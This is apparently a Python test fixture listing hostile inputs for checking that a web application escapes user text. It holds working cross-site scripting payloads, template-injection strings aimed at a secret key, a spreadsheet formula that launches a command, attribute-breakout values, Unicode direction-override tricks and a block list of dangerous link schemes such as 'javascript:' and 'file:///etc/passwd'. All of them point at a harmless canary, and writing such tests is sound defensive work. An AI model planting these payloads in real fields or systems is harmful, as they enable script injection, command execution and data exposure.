"""Words nobody should have to read, for every field that takes words."""

# Every element and attribute they try to make holds "canary", so that one that came to life is known by its name.
PAYLOADS = (
    "<script>canary(1)</script>",
    "</textarea></title></script><script src=//canary.example></script>",
    "<img src=x onerror=canary(2)>",
    "<svg/onload=canary(3)><svg><animate onbegin=canary(4) attributeName=x>",
    "\"><canary-element autofocus onfocus='canary(5)'>",
    "' onmouseover='canary(6)' x='",
    "\" style=\"background:url(javascript:canary(7))",
    "{{ settings.SECRET_KEY }} {% include 'canary' %} ${canary} <%= canary %>",
    "</script><iframe srcdoc=\"&lt;script&gt;canary(8)&lt;/script&gt;\"></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=canary(9)&gt;\">",
    "<!--><img src=x onerror=canary(10)>--> <![CDATA[ <canary> ]]> <?canary ?>",
    "<a href=\"javascript:canary(11)\">x</a> <a href=\"data:text/html,<script>canary(12)</script>\">y</a>",
    "<form action=//canary.example><input name=csrfmiddlewaretoken><button formaction=javascript:canary(13)>",
    "<base href=//canary.example><meta http-equiv=refresh content=0;url=//canary.example><link rel=import href=//canary>",
    "&lt;script&gt;canary(14)&lt;/script&gt; &#60;script&#62; &amp;amp; %3Cscript%3E \\u003cscript\\u003e",
    "<x hx-get=//canary.example hx-trigger=load hx-on:click=canary(15)>",
    "=cmd|' /C calc'!A0\t+1+1\t-2+3\t@SUM(1)",
    "]]></description><canary/><description>",
)  # fmt: skip

# Letters, directions and lengths.
ZALGO = "Z" + "\u0300\u0301\u0315\u0327\u0489" * 30 + "algo"
RTL = "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 123 (abc)"
EMOJI = "\U0001f469\u200d\u2695\ufe0f\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f \u2764\ufe0f 1\ufe0f\u20e3"
LONG_WORD = "Donaudampfschifffahrt" * 60
ASTRAL = "\U0001d400\U00020000\U0010fffd"
HIDDEN = "pay\u200bment \u202emoc.live\u202c x\u2066y\u2069 so\u00adft \ufeffbom w\u2060j tag\U000e0041\U000e0042 v\ufe01s \u3164blank \x01\x7f"

TEXTS = (*PAYLOADS, ZALGO, RTL, EMOJI, LONG_WORD, ASTRAL, HIDDEN)
EVERYTHING = "We guarantee results in our flu clinic.\n" + "\n".join(TEXTS)

# In names and titles hidden characters are refused, so these hold none. Short enough for every name.
NAMES = {
    "person": "\"><img src=x onerror=canary(16)>",
    "officer": "<script>canary(17)</script> \u05e9\u05e8\u05d4",
    "channel": "</title><svg onload=canary(18)>",
    "group": "' onfocus='canary(19)' autofocus x='",
    "organisation": "{{ 7|add:7 }}<canary-element>",
    "title": "</h1></title><script>canary(20)</script>\" onclick=\"canary(21)",
    "job": "=cmd|canary'!A0",
}  # fmt: skip

LINKS = (
    "https://example.org/?q=\"><script>canary(22)</script>",
    "https://example.org/javascript:canary(23)'onclick='canary(24)",
    "http://user:canary@example.org/\u202etxt.exe",
)  # fmt: skip
BAD_LINKS = (
    "javascript:canary(1)", "JaVaScRiPt:canary(1)", "data:text/html,<script>canary(1)</script>", "vbscript:canary",
    "//canary.example/x", "\\\\canary.example", "java\tscript:canary(1)", "file:///etc/passwd", "\x01javascript:canary(1)",
)  # fmt: skip
